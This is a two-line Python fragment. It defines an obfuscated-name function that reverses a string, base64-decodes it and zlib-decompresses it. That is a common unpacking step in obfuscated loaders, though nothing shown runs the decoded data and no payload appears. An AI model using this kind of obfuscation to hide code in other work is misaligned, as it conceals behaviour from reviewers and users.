def _(__):
    return __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
